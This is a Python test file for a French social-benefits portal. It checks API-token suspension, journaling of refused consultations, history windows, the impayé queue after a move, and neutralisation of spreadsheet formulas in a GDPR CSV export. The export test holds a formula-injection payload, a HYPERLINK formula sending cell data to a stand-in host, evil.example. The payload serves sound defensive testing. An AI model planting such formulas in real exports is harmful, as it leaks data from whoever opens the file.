"""CDAP safeguards: API tokens suspended by the atypical-use rules like users, the journal row
of the attempt that triggers a suspension, history depth exactly "the last N months", no
formula injection in the GDPR CSV export, the impayé queue following the allocataire's move."""
import copy
import csv
import io
from datetime import date, timedelta

import pytest
from sqlalchemy import select

from cdap.dossier import build_view
from cdap.models import (Allocataire, AtypicalAlert, ConsultationJournal, ImpayeQueueItem, Paiement,
                         QuotientFamilial)
from portal.dates import add_months
from portal.audit import AuditEntry
from portal.extensions import db
from portal.models import Habilitation, utcnow
from tests.support.factories import csrf_token

from .conftest import consult, make_allocataire

API = "/api/v1/cdap/consultations"


def _miss(api, i):
    return api.post(API, json={"numero_allocataire": f"{7000000 + i}", "nom": "X",
                               "motif": "accompagnement_social"})


def _found(api):
    return api.post(API, json={"numero_allocataire": "8000001", "nom": "lefevre",
                               "motif": "accompagnement_social"})


# --- 1. API tokens are suspended too -----------------------------------------------------------

def test_api_token_is_suspended_beyond_the_second_threshold(world, api_client, factory, login, client,
                                                            low_thresholds):
    user = world.users["travailleur_social"]
    token, raw = factory.api_token(world.cd80, world.partner_admin, scopes=("CDAP",),
                                   profil="travailleur_social")
    api = api_client(raw)
    assert [_miss(api, i).status_code for i in range(2)] == [404, 404]
    r = _miss(api, 2)  # third miss in a row: the suspension threshold
    assert r.status_code == 403 and r.get_json()["title"] == "Habilitation suspendue"
    alert = db.session.scalar(select(AtypicalAlert).where(AtypicalAlert.level == "suspension"))
    assert alert.api_token_id == token.id and alert.suspended_until > utcnow() + timedelta(hours=23)
    # From now on, even a real file answers the documented 403, and nothing is shown.
    r = _found(api)
    assert r.status_code == 403 and "habilitation CDAP de ce jeton est suspendue" in r.get_json()["detail"]
    assert "dossier" not in r.get_json()
    assert api.get("/api/v1/cdap/motifs").status_code == 403
    audit = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "habilitation_suspendue"))
    assert audit.target == f"api_token:{token.id}"
    # Neither the token's creator nor the organisation's users are suspended for it.
    assert all(h.suspended_until is None for h in db.session.scalars(select(Habilitation)))
    login(user)
    assert consult(client, "8000001", "Lefèvre", "accompagnement_social").status_code == 200


def test_token_suspension_ends_or_is_lifted_by_the_caf(world, api_client, factory, login, client,
                                                       low_thresholds):
    token, raw = factory.api_token(world.cd80, world.partner_admin, scopes=("CDAP",),
                                   profil="travailleur_social")
    api = api_client(raw)
    for i in range(3):
        _miss(api, i)
    assert _found(api).status_code == 403
    # The end of the suspension passes: the token works again.
    from cdap.models import TokenSuspension
    row = db.session.get(TokenSuspension, token.id)
    row.suspended_until = utcnow() - timedelta(seconds=1)
    db.session.flush()
    assert _found(api).status_code == 200
    # Suspended again (a new day's alert), then lifted by a Caf admin from the alerts page.
    row.suspended_until = utcnow() + timedelta(hours=5)
    db.session.flush()
    assert _found(api).status_code == 403
    login(world.caf_admin)
    alert = db.session.scalar(select(AtypicalAlert).where(AtypicalAlert.level == "suspension"))
    assert "Lever la suspension" in client.get("/cdap/alertes").get_data(as_text=True)
    r = client.post(f"/cdap/alertes/{alert.id}/lever", data={"csrf_token": csrf_token(client, "/cdap/alertes")})
    assert r.status_code == 302
    assert _found(api).status_code == 200
    assert db.session.scalar(select(AuditEntry.target).where(AuditEntry.action == "suspension_levee")) \
        == f"api_token:{token.id}"


def test_revoking_a_suspended_token_and_creating_another_does_not_undo_the_suspension(
        world, api_client, factory, low_thresholds):
    from portal.admin.services import AdminError, create_api_token, revoke_api_token
    token, raw = factory.api_token(world.cd80, world.partner_admin, scopes=("CDAP",),
                                   profil="travailleur_social")
    api = api_client(raw)
    for i in range(3):
        _miss(api, i)
    revoke_api_token(token, actor=world.partner_admin)
    with pytest.raises(AdminError, match="suspendu par la Caf"):
        create_api_token(world.cd80, actor=world.partner_admin, nom="Autre logiciel", scopes=["CDAP"],
                         profil="travailleur_social", days=30)
    refused = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "api_token_refused"))
    assert refused is not None and refused.organisation_id == world.cd80.id
    # Once the suspension ends, the organisation may create one again.
    from cdap.models import TokenSuspension
    db.session.get(TokenSuspension, token.id).suspended_until = utcnow() - timedelta(seconds=1)
    db.session.flush()
    new, _raw = create_api_token(world.cd80, actor=world.partner_admin, nom="Autre logiciel", scopes=["CDAP"],
                                 profil="travailleur_social", days=30)
    assert new.id != token.id



def test_exempt_tokens_get_the_alerts_but_no_suspension_in_tests_only(world, api_client, factory, login,
                                                                       client, low_thresholds):
    """CDAP_ATYPICAL_EXEMPT_TOKENS (the schemathesis run's app): the rules still run and alert the
    Caf, an API token is never suspended; a user still is. Refused outside PORTAL_ENV=testing."""
    from cdap import settings
    from portal.config import ConfigError
    low_thresholds["CDAP_ATYPICAL_EXEMPT_TOKENS"] = True
    token, raw = factory.api_token(world.cd80, world.partner_admin, scopes=("CDAP",),
                                   profil="travailleur_social")
    api = api_client(raw)
    assert [_miss(api, i).status_code for i in range(6)] == [404] * 6
    assert _found(api).status_code == 200
    alerts = db.session.scalars(select(AtypicalAlert).where(AtypicalAlert.api_token_id == token.id)).all()
    assert {(a.kind, a.level) for a in alerts} == {("introuvables", "alerte"), ("volume", "alerte")}
    assert all(a.suspended_until is None for a in alerts)
    # A user is not a token: suspended as before.
    login(world.users["travailleur_social"])
    assert [consult(client, f"{7100000 + i}", "X", "accompagnement_social").status_code
            for i in range(3)] == [404, 404, 403]
    assert db.session.scalar(select(Habilitation.suspended_until).where(
        Habilitation.user_id == world.users["travailleur_social"].id, Habilitation.service == "CDAP"))

    assert settings.load({"PORTAL_ENV": "testing"})["CDAP_ATYPICAL_EXEMPT_TOKENS"] is False
    assert settings.load({"PORTAL_ENV": "testing", "CDAP_ATYPICAL_EXEMPT_TOKENS": "1"})[
        "CDAP_ATYPICAL_EXEMPT_TOKENS"] is True
    for mode in ("production", "development"):
        with pytest.raises(ConfigError, match="CDAP_ATYPICAL_EXEMPT_TOKENS est réservé aux tests"):
            settings.load({"PORTAL_ENV": mode, "CDAP_ATYPICAL_EXEMPT_TOKENS": "1"})
    with pytest.raises(ConfigError, match="0 ou 1"):
        settings.load({"PORTAL_ENV": "testing", "CDAP_ATYPICAL_EXEMPT_TOKENS": "oui"})

# --- 3. the attempt that triggers the suspension is journaled as a refusal ------------------------

def test_suspending_attempt_is_journaled_as_refused_without_data(world, login, client, app):
    settings = app.config["CDAP_SETTINGS"]
    saved = dict(settings)
    settings.update({"CDAP_DAILY_ALERT": 1, "CDAP_DAILY_SUSPEND": 2})
    try:
        login(world.users["travailleur_social"])
        assert consult(client, "8000001", "LEFEVRE", "accompagnement_social").status_code == 200
        r = consult(client, "8000001", "LEFEVRE", "accompagnement_social")
    finally:
        settings.clear()
        settings.update(saved)
    assert r.status_code == 403 and 'id="cdap-dossier"' not in r.get_data(as_text=True)
    rows = db.session.scalars(select(ConsultationJournal).order_by(ConsultationJournal.seq)).all()
    assert [r.outcome for r in rows] == ["found", "suspended"]
    assert rows[0].categories and rows[1].categories == []
    from cdap.journal import verify
    assert verify().ok


def test_api_suspending_attempt_is_journaled_as_refused(world, api_client, factory, low_thresholds):
    low_thresholds.update({"CDAP_DAILY_ALERT": 1, "CDAP_DAILY_SUSPEND": 2})
    _t, raw = factory.api_token(world.cd80, world.partner_admin, scopes=("CDAP",),
                                profil="travailleur_social")
    api = api_client(raw)
    assert _found(api).status_code == 200
    assert _found(api).status_code == 403
    rows = db.session.scalars(select(ConsultationJournal).order_by(ConsultationJournal.seq)).all()
    assert [(r.outcome, bool(r.categories), r.channel) for r in rows] == [("found", True, "api"),
                                                                          ("suspended", False, "api")]


# --- 4. history depth: exactly N months ---------------------------------------------------------

def test_history_is_exactly_the_last_n_completed_months():
    """12 months of QF and 24 of payments are the 12 (24) months before the current one: the
    current month (not closed yet) is not one of them, the 13th (25th) month back is out."""
    today = date(2026, 12, 15)
    current = date(2026, 12, 1)
    a = make_allocataire(numero="9123456", nom="Martin", departement="80")
    for n in range(0, 30):
        mois = add_months(current, -n)
        db.session.add(QuotientFamilial(allocataire_id=a.id, mois=mois, qf=500 + n))
        db.session.add(Paiement(allocataire_id=a.id, mois=mois, prestation="AF", montant_cents=1000,
                                date_paiement=mois, beneficiaire="allocataire"))
    db.session.flush()
    qf = build_view(a.id, "quotient_familial", today=today)["quotient_familial"]
    assert [r["mois"] for r in qf] == [f"{add_months(current, -n):%Y-%m}" for n in range(12, 0, -1)]
    assert qf[0]["mois"] == "2025-12" and qf[-1]["mois"] == "2026-11"
    view = build_view(a.id, "travailleur_social", today=today)
    assert len(view["quotient_familial"]) == 24 and len(view["paiements"]) == 24
    assert view["paiements"][0]["mois"] == "2026-11" and view["paiements"][-1]["mois"] == "2024-12"
    # First day of the month: same window.
    assert len(build_view(a.id, "quotient_familial", today=current)["quotient_familial"]) == 12
    # The Caf agent sees the whole history.
    assert len(build_view(a.id, "agent_caf", today=today)["quotient_familial"]) == 30


# --- 5. no formula injection in the exports ------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+33 6", "'+33 6"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("rien à signaler", "rien à signaler"), ("", ""), (None, ""),
    ("a=b", "a=b"),
])
def test_safe_cell(value, expected):
    from portal.spreadsheets import safe_cell
    assert safe_cell(value) == expected


def test_gdpr_csv_neutralises_formulas(world, login, client, factory):
    login(world.users["travailleur_social"])
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"cliquez")'
    assert consult(client, "8000001", "Lefèvre", "accompagnement_social", commentaire=evil).status_code == 200
    consult(client, "8000001", "Lefèvre", "accompagnement_social", commentaire="@SUM(1+1)")
    client.post("/deconnexion", data={"csrf_token": factory.csrf_token(client, "/accueil")})
    login(world.users["agent_caf"])
    token = factory.csrf_token(client, "/cdap/journal/allocataire")
    body = client.post("/cdap/journal/allocataire.csv",
                       data={"numero": "8000001", "csrf_token": token}).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    comments = [r[5] for r in rows[1:]]
    assert comments == ["'" + evil, "'@SUM(1+1)"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


# --- 6. the impayé queue follows the allocataire's current département ----------------------------

def test_impaye_queue_follows_the_allocataire_after_a_move(world, login, client, app):
    from cdap.importer import import_records
    login(world.users["travailleur_social"])  # CD 80
    assert 'data-numero="8000001"' in client.get("/cdap/impayes").get_data(as_text=True)
    moved = copy.deepcopy(world.showcase)
    moved.update(departement="02", code_postal="02000", commune="Laon")
    report = import_records([moved])
    assert report.ok, report.rejected
    db.session.flush()
    db.session.expire_all()
    item = db.session.scalar(select(ImpayeQueueItem).join(ImpayeQueueItem.allocataire)
                             .where(ImpayeQueueItem.statut == "nouveau", Allocataire.numero == "8000001"))
    # The old territory no longer sees it, nor acts on it, nor counts it on its home page.
    assert 'data-numero="8000001"' not in client.get("/cdap/impayes").get_data(as_text=True)
    assert client.post(f"/cdap/impayes/{item.id}/prendre",
                       data={"csrf_token": csrf_token(client, "/cdap/impayes")}).status_code == 404
    assert client.get(f"/cdap/consultation?impaye={item.id}").get_data(as_text=True).count('value="8000001"') == 0
    # The new territory does.
    other = app.test_client()
    login(world.ts02, on=other)
    assert 'data-numero="8000001"' in other.get("/cdap/impayes").get_data(as_text=True)
    assert 'value="8000001"' in other.get(f"/cdap/consultation?impaye={item.id}").get_data(as_text=True)
    assert other.post(f"/cdap/impayes/{item.id}/prendre",
                      data={"csrf_token": csrf_token(other, "/cdap/impayes")}).status_code == 302


def test_home_panel_counts_by_current_departement(world):
    from cdap.home import panel
    from cdap.models import Allocataire
    ts80 = world.users["travailleur_social"]
    before02, before80 = (panel(u)[1]["cdap_new_impayes"] for u in (world.ts02, ts80))
    a = db.session.scalar(select(Allocataire).where(Allocataire.numero == "8000001"))
    a.departement = "02"
    db.session.flush()
    assert panel(world.ts02)[1]["cdap_new_impayes"] == before02 + 1
    assert panel(ts80)[1]["cdap_new_impayes"] == before80 - 1
